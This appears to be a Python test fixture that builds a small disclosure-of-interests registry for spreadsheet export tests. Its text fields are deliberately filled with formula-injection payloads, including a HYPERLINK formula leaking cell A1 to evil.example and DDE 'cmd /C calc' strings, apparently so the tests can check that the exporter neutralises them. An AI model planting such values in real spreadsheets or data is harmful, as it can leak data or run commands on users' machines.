"""A small registry whose every text is hostile to a spreadsheet, for the export tests."""

import datetime
from decimal import Decimal
from types import SimpleNamespace

from registry.enums import ArticleStatus, DisclosureForm, DisclosureStatus, InterestCategory, Provenance
from tests.factories import (
    AuthorshipFactory,
    DeclaredInterestFactory,
    DisclosureFactory,
    InterestFactory,
    OrganizationFactory,
    PersonFactory,
)

HOSTILE_ORGANIZATION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE_STATEMENT = "+47 consultancy fees; cmd|' /C calc'!A0"
HOSTILE_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_REASON = "-2+3 declared by e-mail"
HOSTILE_SPECIFICATION = "=1+1 advisory work"
HOSTILE_DECLARATION = "\tconsultancy fees from the company"


def build_registry():
    """Ann Lee, with consultancy fees and shares in one hostile-named company declared on a published
    article (whose co-author has no disclosure) and the fees again on a draft; and a grant known only
    from an import."""
    company = OrganizationFactory(name=HOSTILE_ORGANIZATION)
    ann = PersonFactory(name="Ann Lee", orcid="0000-0002-1825-0097")
    published = AuthorshipFactory(
        person=ann,
        position=1,
        article__doi="10.5555/published",
        article__title="A trial",
        article__received_date=datetime.date(2025, 6, 1),
    )
    AuthorshipFactory(person__name="Bo Berg", article=published.article, position=2)
    disclosure = DisclosureFactory(
        authorship=published,
        declares_none=False,
        statement=HOSTILE_STATEMENT,
        form=DisclosureForm.ICMJE_2021,
        completed_on=datetime.date(2025, 12, 1),
        status=DisclosureStatus.CORRECTED,
        status_changed_on=datetime.date(2026, 2, 1),
        status_note=HOSTILE_NOTE,
    )
    fees = InterestFactory(
        person=ann,
        organization=company,
        category=InterestCategory.CONSULTING,
        amount=Decimal("12500.50"),
        currency="NOK",
        start_date=datetime.date(2024, 1, 1),
        ongoing=True,
        specification=HOSTILE_SPECIFICATION,
    )
    DeclaredInterestFactory(disclosure=disclosure, interest=fees, text_as_written=HOSTILE_DECLARATION)
    shares = InterestFactory(person=ann, organization=company, category=InterestCategory.STOCK)
    DeclaredInterestFactory(disclosure=disclosure, interest=shares, text_as_written="shares")
    draft = AuthorshipFactory(
        person=ann,
        position=1,
        article__doi="10.5555/draft",
        article__status=ArticleStatus.DRAFT,
        article__published_date=None,
    )
    draft_disclosure = DisclosureFactory(authorship=draft, declares_none=False, statement="Consulting.")
    DeclaredInterestFactory(disclosure=draft_disclosure, interest=fees, text_as_written="Consulting")
    grant = InterestFactory(
        person=ann,
        organization=OrganizationFactory(name="Lundbeck"),
        category=InterestCategory.GRANTS,
        provenance=Provenance.IMPORT,
        provenance_detail="grants.csv line 3",
    )
    return SimpleNamespace(
        company=company,
        ann=ann,
        disclosure=disclosure,
        draft_disclosure=draft_disclosure,
        fees=fees,
        shares=shares,
        grant=grant,
    )
